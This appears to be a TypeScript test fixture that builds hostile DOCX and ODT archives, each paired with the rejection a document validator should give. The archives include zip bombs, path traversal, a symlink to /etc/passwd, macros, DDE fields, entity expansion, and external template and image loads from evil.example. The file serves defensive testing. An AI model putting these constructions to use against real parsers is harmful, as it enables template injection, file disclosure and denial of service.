import { crc32 } from 'node:zlib';
import { archive, docxParts, odtParts } from '../worlds/test-files.ts';
import { CANARY, type HostileFile, MEGABYTE, patchFile, SCRIPT, utf8 } from './hostile-kit.ts';

async function docx(extra: Parameters<typeof archive>[0], body?: string): Promise<Buffer> {
  return archive({ ...docxParts(body), ...extra });
}

const relationshipsPart = (tag: string) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${tag}</Relationships>`;

/** Archives that claim to be documents. */
export async function hostileArchives(): Promise<HostileFile[]> {
  const good = await docx({});
  const bomb = await docx({ 'word/media/a.xml': { content: Buffer.alloc(101 * MEGABYTE, 32) } });
  const parts = Object.fromEntries(
    Array.from({ length: 1_001 }, (_, index) => [`word/${index}.xml`, '<a/>']),
  );
  const external =
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>';
  const slip = patchFile(
    patchFile(await docx({ 'word/aaaaaaa.xml': '<a/>' }), 'word/aaaaaaa.xml', '../../../etc.xml'),
    'word/aaaaaaa.xml',
    '../../../etc.xml',
  );
  const declared = await docx({ 'word/big.xml': { content: Buffer.alloc(50_000, 32) } });
  return [
    { name: 'a DOCX that unpacks to 101 MB', file: bomb, expected: ['unpacks_too_large'] },
    {
      name: 'a DOCX that says it is smaller than it is',
      file: withFalseSize(declared, 50_000),
      expected: ['damaged'],
    },
    { name: 'a DOCX of 1,001 files', file: await docx(parts), expected: ['too_many_entries'] },
    { name: 'a DOCX that climbs out of its folder', file: slip, expected: ['ambiguous'] },
    {
      name: 'a DOCX with a symbolic link',
      file: await docx({ 'word/link.xml': { content: '/etc/passwd', mode: 0o120777 } }),
      expected: ['active_content'],
    },
    {
      name: 'a DOCX with a device',
      file: await docx({ 'word/device.xml': { content: 'x', mode: 0o020666 } }),
      expected: ['active_content'],
    },
    {
      name: 'a DOCX with macros',
      file: await docx({ 'word/vbaProject.bin': CANARY }),
      expected: ['active_content'],
    },
    {
      name: 'a DOCX with a program in it',
      file: await docx({ 'word/embeddings/setup.exe': 'MZ' }),
      expected: ['active_content'],
    },
    {
      name: 'a DOCX with a template from elsewhere',
      file: await docx({ 'word/_rels/settings.xml.rels': relationshipsPart(external) }),
      expected: ['active_content'],
    },
    {
      name: 'a DOCX whose reach is written in figures',
      file: await docx({
        'word/_rels/settings.xml.rels': relationshipsPart(external.replace('External', '&#69;xternal')),
      }),
      expected: ['active_content'],
    },
    {
      name: 'a DOCX with a DDE field in two runs',
      file: await docx(
        {},
        '<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\x</w:instrText></w:r>',
      ),
      expected: ['active_content'],
    },
    {
      name: 'a DOCX with entities that grow',
      file: await docx({ 'word/a.xml': '<!DOCTYPE a [<!ENTITY a "aaaa">]><a>&a;</a>' }),
      expected: ['active_content'],
    },
    {
      name: 'a DOCX in UTF-16',
      file: await docx({ 'word/a.xml': { content: Buffer.from('\ufeff<a/>', 'utf16le') } }),
      expected: ['ambiguous'],
    },
    {
      name: 'a DOCX with a name twice',
      file: patchedInBoth(
        await docx({ 'word/a.xml': '<a/>', 'word/b.xml': '<b/>' }),
        'word/b.xml',
        'word/a.xml',
      ),
      expected: ['ambiguous'],
    },
    ...(await duplicateNames()),
    {
      name: 'a DOCX with a name that turns the direction',
      file: await docx({ 'word/a\u202elmx.xml': '<a/>' }),
      expected: ['ambiguous'],
    },
    {
      name: 'a DOCX with a program before it',
      file: Buffer.concat([utf8('MZ'), good]),
      expected: ['type_not_taken'],
    },
    {
      name: 'a DOCX with something behind it',
      file: Buffer.concat([good, utf8(SCRIPT)]),
      expected: ['ambiguous'],
    },
    { name: 'a DOCX cut in half', file: good.subarray(0, good.length >> 1), expected: ['damaged'] },
    { name: 'a DOCX behind a password', file: encryptedFlag(good), expected: ['encrypted'] },
    {
      name: 'a spreadsheet',
      file: await archive({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<a/>' }),
      expected: ['type_not_taken'],
    },
    { name: 'a plain ZIP', file: await archive({ 'index.html': SCRIPT }), expected: ['type_not_taken'] },
    {
      name: 'an ODT with a macro',
      file: await archive({ ...odtParts(), 'Basic/Standard/Module1.xml': '<a/>' }),
      expected: ['active_content'],
    },
    {
      name: 'an ODT with a script on opening',
      file: await archive({ ...odtParts(), 'content.xml': '<a><script:event-listener/></a>' }),
      expected: ['active_content'],
    },
    {
      name: 'an ODT that loads a picture from elsewhere',
      file: await archive({
        ...odtParts(),
        'styles.xml': '<a><draw:image xlink:href="https://evil.example/x.png"/></a>',
      }),
      expected: ['active_content'],
    },
    {
      name: 'an ODT behind a password',
      file: await archive({ ...odtParts(), 'META-INF/manifest.xml': '<manifest:encryption-data/>' }),
      expected: ['encrypted'],
    },
  ];
}

/** Archives in which two programs read different parts under the same name. */
async function duplicateNames(): Promise<HostileFile[]> {
  const expected = ['ambiguous'];
  const link =
    '<Relationship Id="r1" Type="a/hyperlink" Target="https://evil.example/a.png" TargetMode="External"/>';
  const [loading, nothing] = [relationshipsPart(link), relationshipsPart('')];
  const body = '<w:p><a:blip r:link="r1"/></w:p>';
  return [
    {
      name: 'a DOCX with a name twice, in another case',
      file: await docx(
        { 'word/_rels/Document.xml.rels': loading, 'word/_rels/document.xml.rels': nothing },
        body,
      ),
      expected,
    },
    {
      name: 'a DOCX with a name twice, composed otherwise',
      file: await docx({ 'word/\u00e9.xml': '<a/>', 'word/e\u0301.xml': '<b/>' }),
      expected,
    },
    {
      name: 'a DOCX with a name twice, by its other slash',
      file: patchedInBoth(await docx({ 'word/wb.xml': '<b/>' }), 'word/wb.xml', 'word\\wb.xml'),
      expected,
    },
    {
      name: 'a DOCX with a name twice, in figures',
      file: await docx({ 'word/docum%65nt.xml': '<a/>' }),
      expected,
    },
    {
      name: 'a DOCX with a second name that some programs read',
      file: withSecondName(await docx({ 'word/a.xml': '<a/>' }), 'word/a.xml', 'word/b.xml'),
      expected,
    },
  ];
}

/** Gives an entry another name in the directory's field for names in Unicode (APPNOTE, 4.6.9). */
function withSecondName(file: Buffer, name: string, second: string): Buffer {
  const at = file.lastIndexOf(name);
  const field = Buffer.alloc(9);
  field.writeUInt16LE(0x7075, 0);
  field.writeUInt16LE(5 + second.length, 2);
  field.writeUInt8(1, 4);
  field.writeUInt32LE(crc32(name), 5);
  const extra = Buffer.concat([field, utf8(second)]);
  const offset = at + name.length;
  const copy = Buffer.concat([file.subarray(0, offset), extra, file.subarray(offset)]);
  copy.writeUInt16LE(extra.length, at - 16);
  const end = copy.length - 22;
  copy.writeUInt32LE(copy.readUInt32LE(end + 12) + extra.length, end + 12);
  return copy;
}

/** Writes a smaller size into both headers of the entry that has this one. */
function withFalseSize(file: Buffer, size: number): Buffer {
  const copy = Buffer.from(file);
  const signature = Buffer.alloc(4);
  signature.writeUInt32LE(size);
  for (let at = copy.indexOf(signature); at >= 0; at = copy.indexOf(signature, at + 4))
    copy.writeUInt32LE(10, at);
  return copy;
}

function patchedInBoth(file: Buffer, from: string, to: string): Buffer {
  return patchFile(patchFile(file, from, to), from, to);
}

/** Sets the "encrypted" bit of the first entry. */
function encryptedFlag(file: Buffer): Buffer {
  const copy = Buffer.from(file);
  copy.writeUInt16LE(copy.readUInt16LE(6) | 1, 6);
  const directory = copy.indexOf(Buffer.from('PK\x01\x02', 'latin1'));
  copy.writeUInt16LE(copy.readUInt16LE(directory + 8) | 1, directory + 8);
  return copy;
}
